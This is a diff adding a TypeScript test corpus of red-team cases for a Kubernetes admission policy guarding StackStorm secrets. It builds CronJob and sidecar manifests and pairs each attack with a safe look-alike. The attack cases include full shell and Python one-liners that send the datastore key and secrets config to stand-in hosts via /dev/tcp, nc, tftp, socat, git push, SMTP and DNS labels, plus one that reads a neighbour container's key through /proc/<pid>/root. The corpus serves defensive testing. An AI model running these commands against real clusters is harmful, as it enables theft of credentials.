@@ -1,0 +1,100 @@
+/**
+ * The eleventh red team's exfiltration, log, st2-config, supply-chain and
+ * forwarder holes (docs/red-team.md, "Eleventh attacker", egress piece),
+ * rewritten with variants and safe look-alikes: a Secret's file or variable
+ * sent by bash's /dev/tcp, ftpput, tftp, socat, git push, Python's smtplib or
+ * DNS labels, read from a neighbour container through /proc/<pid>/root
+ * (ST2-SEC-016); printed by dd or Python (ST2-SEC-017).
+ */
+import type { Patch, RedTeamCase } from './corpus.js';
+
+type Json = Record<string, unknown>;
+
+const DEPLOY = (name: string): Json => ({ group: 'apps', kind: 'Deployment', name });
+const SPEC = '/spec/template/spec';
+const patch = (target: Json, ...ops: Json[]): Patch => ({ target, ops });
+
+interface Body {
+  readonly patches?: Patch[];
+  readonly resources?: Json[];
+}
+
+const LIM = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '200m', memory: '128Mi' } };
+const SC = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };
+/** st2's own secrets: its config's passwords and the datastore key. */
+const MOUNTS = [
+  { name: 'cfg', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true },
+  { name: 'key', mountPath: '/etc/st2/keys', readOnly: true },
+];
+const VOLUMES = [
+  { name: 'cfg', secret: { secretName: 'st2-config-secrets' } },
+  { name: 'key', secret: { secretName: 'st2-datastore-crypto-key', items: [{ key: 'datastore_crypto_key', path: 'datastore_key.json' }] } },
+];
+
+/** A nightly CronJob whose one container runs a script with st2's secrets mounted. */
+const cron = (image: string, script: string): Json => ({
+  apiVersion: 'batch/v1',
+  kind: 'CronJob',
+  metadata: { name: 'f12-nightly' },
+  spec: {
+    schedule: '40 2 * * *',
+    jobTemplate: {
+      spec: {
+        template: {
+          spec: {
+            restartPolicy: 'OnFailure',
+            securityContext: { runAsNonRoot: true, runAsUser: 1000, runAsGroup: 1000, seccompProfile: { type: 'RuntimeDefault' } },
+            containers: [{ name: 'task', image, command: ['sh', '-c'], args: [script], volumeMounts: MOUNTS, resources: LIM, securityContext: SC }],
+            volumes: VOLUMES,
+          },
+        },
+      },
+    },
+  },
+});
+const run = (image: string, script: string): Body => ({ resources: [cron(image, script)] });
+
+/** A sidecar beside st2api (which mounts the datastore key), sharing its process namespace or not. */
+const sidecar = (script: string, share: boolean): Body => ({
+  patches: [
+    patch(
+      DEPLOY('st2api'),
+      ...(share ? [{ op: 'add', path: `${SPEC}/shareProcessNamespace`, value: true }] : []),
+      { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'probe', image: 'busybox:1.36.1', command: ['sh', '-c', script], resources: LIM, securityContext: { ...SC, runAsNonRoot: true, runAsUser: 1000 } } },
+    ),
+  ],
+});
+
+export function fresh12EgressCorpus(): RedTeamCase[] {
+  const cases: RedTeamCase[] = [];
+  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: Body): void => {
+    cases.push({ id: `f12e-${id}`, cls, wraps: 'prod', expect: rule === undefined ? 'allow' : 'deny', ...(rule ? { rule } : {}), ...(body.patches ? { patches: body.patches } : {}), ...(body.resources ? { resources: body.resources } : {}) });
+  };
+
+  // --- a Secret sent out by a socket, a file-transfer client, git, mail or DNS (ST2-SEC-016) ------------
+  add('devtcp-nested-bash', 'secrets', 'ST2-SEC-016', run('bash:5.2.37', `bash -c 'exec 3<>/dev/tcp/203.0.113.44/8443; cat /etc/st2/keys/datastore_key.json >&3'`));
+  add('devtcp-udp-config', 'secrets', 'ST2-SEC-016', run('bash:5.2.37', 'base64 /etc/st2/st2.secrets.conf > /dev/udp/collector.example.org/514'));
+  add('ftpput-key', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'busybox ftpput -u guest -p guest -P 2121 ftp.example.net up/key.json /etc/st2/keys/datastore_key.json'));
+  add('tftp-put-config', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'tftp -l /etc/st2/st2.secrets.conf -r c.txt -p 198.51.100.61 69'));
+  add('socat-openssl-out', 'secrets', 'ST2-SEC-016', run('alpine/socat:1.8.0.0', 'socat -u OPEN:/etc/st2/keys/datastore_key.json OPENSSL:sink.example.io:443,verify=0'));
+  add('nc-to-ipv4', 'secrets', 'ST2-SEC-016', run('busybox:1.36.1', 'cat /etc/st2/st2.secrets.conf | nc -w 3 198.51.100.61 4000'));
+  add('git-push-added-remote', 'secrets', 'ST2-SEC-016', run('alpine/git:2.45.2', 'git init /tmp/r && install -m 600 /etc/st2/st2.secrets.conf /tmp/r/c && cd /tmp/r && git remote add o https://gitlab.example.com/ops/drop.git && git add . && git -c user.name=x -c user.email=x@y commit -qm c && git push o HEAD:main'));
+  add('python-smtp-ssl', 'secrets', 'ST2-SEC-016', run('python:3.12.7-slim', `python3 -c "import smtplib; s=smtplib.SMTP_SSL('smtp.mailer.example.com', 465); s.sendmail('a@x', ['b@example.com'], open('/etc/st2/keys/datastore_key.json').read())"`));
+  add('dig-labels-from-substitution', 'secrets', 'ST2-SEC-016', run('alpine:3.20.3', 'for l in $(xxd -p /etc/st2/keys/datastore_key.json); do dig +short "$l.q.example.org"; done'));
+  add('proc-root-neighbour', 'secrets', 'ST2-SEC-016', sidecar('sleep 20; for p in /proc/[0-9]*; do cat $p/root/etc/st2/keys/datastore_key.json 2>/dev/null; done | nc 192.0.2.77 9000; sleep 3600', true));
+  add('safe-socat-to-rabbitmq', 'secrets', undefined, run('alpine/socat:1.8.0.0', 'socat -u OPEN:/etc/st2/st2.secrets.conf TCP:rabbitmq.st2-prod.svc.cluster.local:5672 || true'));
+  add('safe-git-push-in-cluster', 'secrets', undefined, run('alpine/git:2.45.2', 'git clone http://gitea.tools.svc.cluster.local:3000/ops/st2-config.git /tmp/r && cp /etc/st2/st2.secrets.conf /tmp/r/ && cd /tmp/r && git add -A && git -c user.email=x@y commit -qm c && git push'));
+  add('safe-git-push-outside-no-secret', 'secrets', undefined, run('alpine/git:2.45.2', 'git clone https://github.com/acme-ops/st2-status.git /tmp/r && date > /tmp/r/last-run && cd /tmp/r && git add -A && git -c user.email=x@y commit -qm c && git push'));
+  add('safe-dns-fixed-name', 'secrets', undefined, run('busybox:1.36.1', 'nslookup api.github.com && sha256sum /etc/st2/keys/datastore_key.json'));
+  add('safe-devtcp-probe-internal', 'secrets', undefined, run('bash:5.2.37', `bash -c 'until echo > /dev/tcp/mongodb-0.mongodb/27017; do sleep 2; done'; sha256sum /etc/st2/st2.secrets.conf`));
+  add('safe-python-smtp-notice', 'secrets', undefined, run('python:3.12.7-slim', `python3 -c "import smtplib; smtplib.SMTP('smtp.mailer.example.com', 25).sendmail('st2@x', ['ops@example.com'], 'nightly check done')"`));
+  add('safe-proc-root-no-share', 'secrets', undefined, sidecar('sleep 20; for p in /proc/[0-9]*; do cat $p/root/etc/hostname 2>/dev/null; done | nc 192.0.2.77 9000; sleep 3600', false));
+
+  // --- a Secret printed into the pod log (ST2-SEC-017) ----------------------------------------------
+  add('dd-config-to-log', 'secrets', 'ST2-SEC-017', run('busybox:1.36.1', 'dd if=/etc/st2/st2.secrets.conf bs=4k status=none'));
+  add('python-print-key', 'secrets', 'ST2-SEC-017', run('python:3.12.7-slim', `python3 -c "import sys; sys.stdout.write(open('/etc/st2/keys/datastore_key.json').read())"`));
+  add('safe-dd-to-file', 'secrets', undefined, run('busybox:1.36.1', 'dd if=/etc/st2/st2.secrets.conf of=/tmp/c.bak status=none && sha256sum /tmp/c.bak'));
+  add('safe-python-print-digest', 'secrets', undefined, run('python:3.12.7-slim', `python3 -c "import hashlib; hashlib.sha256(open('/etc/st2/keys/datastore_key.json','rb').read()).hexdigest()" && echo checked`));
+
+  return cases;
+}
